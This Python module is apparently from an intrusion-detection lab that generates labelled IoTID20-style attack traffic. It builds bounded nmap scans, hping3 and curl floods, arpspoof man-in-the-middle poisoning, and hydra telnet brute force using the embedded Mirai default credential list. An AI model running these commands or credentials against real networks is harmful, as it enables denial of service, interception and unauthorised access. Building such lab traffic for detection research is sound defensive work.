"""Attack types: the real tool each one runs (nmap, hping3, arpspoof, hydra, curl), its IoTID20 label, its limits.

Every command is bounded twice: by a packet/attempt count computed from its rate and window, and by
``timeout`` at the attack's stop time. Attacks use the attacker's IPv4 address (hping3 and ARP have no IPv6;
IoTID20 is IPv4 only) and never spoof source addresses, so the attacker address + time window labels them.
"""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import TYPE_CHECKING

from ids_core.typedconfig import setting

if TYPE_CHECKING:
    from trafficlab.scenario import Attack, Scenario

MAX_PPS = 20_000  # the lab shares a small machine; floods are rate-bounded, never --flood
MAX_COUNT = 1_000_000


@dataclasses.dataclass
class AttackContext:
    """What a command needs to know about the running lab."""

    attacker_ip: str
    ifname: str
    target_ips: list[str]
    gateway_ip: str
    seconds: float  # stop_s - start_s
    workdir: Path  # for the tool's own files (combo lists, hydra's restore file)
    spoof_ip: str = ""  # arp_spoof: the address the attacker claims


@dataclasses.dataclass
class ScanParams:
    ports: str = setting("1-1024", help="nmap -p port list")
    max_rate: int = setting(500, min=1, max=MAX_PPS, help="nmap --max-rate (probes per second)")


@dataclasses.dataclass
class VersionScanParams:
    ports: str = setting("21-23,80,443,554,1883,8080", help="nmap -p port list")
    max_rate: int = setting(200, min=1, max=MAX_PPS, help="nmap --max-rate")
    intensity: int = setting(2, min=0, max=9, help="nmap --version-intensity")


@dataclasses.dataclass
class FloodParams:
    rate_pps: int = setting(1000, min=1, max=MAX_PPS, help="packets per second (hping3 -i u<1e6/rate>)")
    count: int | None = setting(None, min=1, max=MAX_COUNT, help="packets per target (default rate × window)")
    port: int = setting(80, min=1, max=65535, help="destination port (TCP/UDP floods)")
    data_bytes: int = setting(0, min=0, max=1400, help="payload bytes per packet (hping3 -d)")


@dataclasses.dataclass
class HttpFloodParams:
    requests: int = setting(2000, min=1, max=100_000, help="HTTP GETs in total (bounded)")
    parallel: int = setting(8, min=1, max=64, help="curl --parallel-max")
    port: int = setting(8080, min=1, max=65535)
    path: str = setting("/", help="request path")


@dataclasses.dataclass
class ArpSpoofParams:
    spoof: str = setting("gateway", help="the host whose IPv4 address the victims are told is the attacker's MAC")
    both_ways: bool = setting(True, help="also poison the spoofed host's entry for the victim (arpspoof -r)")
    forward: bool = setting(True, help="the attacker forwards the diverted packets (a man in the middle)")


@dataclasses.dataclass
class BruteForceParams:
    port: int = setting(23, min=1, max=65535, help="telnet port")
    tasks: int = setting(4, min=1, max=16, help="hydra -t parallel connections per target")
    attempts: int | None = setting(None, min=1, max=10_000, help="credential pairs to try (default: the whole list)")


@dataclasses.dataclass(frozen=True)
class AttackType:
    category: str  # IoTID20 Cat
    sub_category: str  # IoTID20 Sub_Cat (or a new one where IoTID20 has none; see `in_iotid20`)
    params: type
    commands: Callable[[object, AttackContext], list[list[str]]]
    tool: str
    in_iotid20: bool = True
    check: Callable[[Scenario, Attack, str], None] = lambda scenario, attack, key: None


def _timeout(seconds: float, argv: list[str], signal: str = "TERM", kill_after: int = 2) -> list[str]:
    """``argv`` signalled at the attack's stop time (and SIGKILLed ``kill_after`` s later if still running)."""
    return ["timeout", "-k", str(kill_after), "-s", signal, f"{max(seconds, 0.1):.2f}", *argv]


def _nmap(kind: str) -> Callable[[object, AttackContext], list[list[str]]]:
    def build(p: object, ctx: AttackContext) -> list[list[str]]:
        argv = ["nmap", kind, "-Pn", "-n", "-e", ctx.ifname, "-T4", "--max-retries", "1"]
        argv += ["--max-rate", str(p.max_rate), "-p", p.ports]  # type: ignore[attr-defined]
        if kind == "-sV":
            argv += ["--version-intensity", str(p.intensity)]  # type: ignore[attr-defined]
        argv += ["--host-timeout", f"{int(ctx.seconds) + 1}s", *ctx.target_ips]
        return [_timeout(ctx.seconds, argv)]

    return build


def _hping(mode: list[str]) -> Callable[[object, AttackContext], list[list[str]]]:
    def build(p: object, ctx: AttackContext) -> list[list[str]]:
        rate, count = p.rate_pps, p.count  # type: ignore[attr-defined]
        count = min(count or MAX_COUNT, max(1, int(rate * ctx.seconds)))
        argv = ["hping3", "-q", "-I", ctx.ifname, *mode, "-c", str(count), "-i", f"u{max(1, 1_000_000 // rate)}"]
        if "--icmp" not in mode:
            argv += ["-p", str(p.port)]  # type: ignore[attr-defined]
        if p.data_bytes:  # type: ignore[attr-defined]
            argv += ["-d", str(p.data_bytes)]  # type: ignore[attr-defined]
        return [_timeout(ctx.seconds, [*argv, ip], "INT") for ip in ctx.target_ips]

    return build


def _http_flood(p: HttpFloodParams, ctx: AttackContext) -> list[list[str]]:
    per_target = max(1, p.requests // len(ctx.target_ips))
    config = ctx.workdir / "http_flood.curlrc"
    lines = []
    for ip in ctx.target_ips:
        lines += [f'url = "http://{ip}:{p.port}{p.path}"\noutput = "/dev/null"'] * per_target
    config.write_text("\n".join(lines) + "\n")
    argv = ["curl", "-s", "--parallel", "--parallel-max", str(p.parallel), "--max-time", "3", "-K", str(config)]
    return [_timeout(ctx.seconds, argv)]


def _arpspoof(p: ArpSpoofParams, ctx: AttackContext) -> list[list[str]]:
    spoofed = ctx.spoof_ip
    cmds = []
    for ip in ctx.target_ips:
        argv = ["arpspoof", "-i", ctx.ifname, "-t", ip, *(["-r"] if p.both_ways else []), spoofed]
        cmds.append(_timeout(ctx.seconds, argv, "INT", 15))  # on SIGINT arpspoof re-ARPs for 5 rounds (~10 s)
    return cmds


def _check_arpspoof(scenario: Scenario, attack: Attack, key: str) -> None:
    from trafficlab.scenario import GATEWAY, ScenarioError

    spoof = attack.params.spoof
    if spoof != GATEWAY and spoof not in {d.name for d in scenario.devices}:
        raise ScenarioError(f"{key}.params.spoof: {spoof!r} is not a device or 'gateway'")
    if spoof in attack.targets:
        raise ScenarioError(f"{key}.params.spoof: {spoof!r} is also a target")
    if attack.stop_s - attack.start_s < 3:
        raise ScenarioError(f"{key}.stop_s: ARP spoofing needs at least 3 s (arpspoof re-ARPs every 2 s)")


def _check_telnet(scenario: Scenario, attack: Attack, key: str) -> None:
    from trafficlab.scenario import ScenarioError

    for j, target in enumerate(attack.targets):
        if target == "gateway" or not scenario.device(target).telnet:
            raise ScenarioError(f"{key}.targets[{j}]: {target!r} runs no telnet service (devices[].telnet)")


# Mirai's default credential table (scanner.c of the public Mirai source), the dictionary IoT botnets guess with.
_MIRAI_TABLE = (
    "root:xc3511 root:vizxv root:admin admin:admin root:888888 root:xmhdipc root:default root:juantech "
    "root:123456 root:54321 support:support root: admin:password root:root root:12345 user:user admin: "
    "root:pass admin:admin1234 root:1111 admin:smcadmin admin:1111 root:666666 root:password root:1234 "
    "root:klv123 Administrator:admin service:service supervisor:supervisor guest:guest guest:12345 "
    "admin1:password administrator:1234 666666:666666 888888:888888 ubnt:ubnt root:klv1234 root:Zte521 "
    "root:hi3518 root:jvbzd root:anko root:zlxx. root:7ujMko0vizxv root:7ujMko0admin root:system root:ikwb "
    "root:dreambox root:user root:realtek root:00000000 admin:1111111 admin:1234 admin:12345 admin:54321 "
    "admin:123456 admin:7ujMko0admin admin:pass admin:meinsm tech:tech"
)
MIRAI_CREDENTIALS: tuple[tuple[str, str], ...] = tuple(
    (user, password) for user, _, password in (pair.partition(":") for pair in _MIRAI_TABLE.split())
)


def _hydra(p: BruteForceParams, ctx: AttackContext) -> list[list[str]]:
    pairs = MIRAI_CREDENTIALS[: p.attempts] if p.attempts else MIRAI_CREDENTIALS
    combos = ctx.workdir / "mirai_credentials.txt"
    combos.write_text("".join(f"{u}:{pw}\n" for u, pw in pairs))
    targets = ctx.workdir / "hydra_targets.txt"
    targets.write_text("".join(f"{ip}\n" for ip in ctx.target_ips))
    argv = ["hydra", "-I", "-C", str(combos), "-M", str(targets), "-s", str(p.port), "-t", str(p.tasks)]
    argv += ["-w", "5", "-o", str(ctx.workdir / "hydra_found.txt"), "telnet"]
    return [_timeout(ctx.seconds, argv)]


ATTACK_TYPES: dict[str, AttackType] = {
    "nmap_syn": AttackType("Scan", "Scan Hostport", ScanParams, _nmap("-sS"), "nmap -sS"),
    "nmap_connect": AttackType("Scan", "Scan Hostport", ScanParams, _nmap("-sT"), "nmap -sT"),
    "nmap_version": AttackType("Scan", "Scan Port OS", VersionScanParams, _nmap("-sV"), "nmap -sV"),
    "nmap_os": AttackType("Scan", "Scan Port OS", ScanParams, _nmap("-O"), "nmap -O"),
    "syn_flood": AttackType("DoS", "DoS-Synflooding", FloodParams, _hping(["-S"]), "hping3 -S"),
    "ack_flood": AttackType("Mirai", "Mirai-Ackflooding", FloodParams, _hping(["-A"]), "hping3 -A"),
    "udp_flood": AttackType("Mirai", "Mirai-UDP Flooding", FloodParams, _hping(["--udp"]), "hping3 --udp"),
    "icmp_flood": AttackType("DoS", "DoS-ICMPflooding", FloodParams, _hping(["--icmp"]), "hping3 --icmp", False),
    "http_flood": AttackType("Mirai", "Mirai-HTTP Flooding", HttpFloodParams, _http_flood, "curl --parallel"),
    "arp_spoof": AttackType(
        "MITM ARP Spoofing", "MITM ARP Spoofing", ArpSpoofParams, _arpspoof, "arpspoof", check=_check_arpspoof
    ),
    "telnet_bruteforce": AttackType(
        "Mirai", "Mirai-Hostbruteforceg", BruteForceParams, _hydra, "hydra telnet", check=_check_telnet
    ),
}
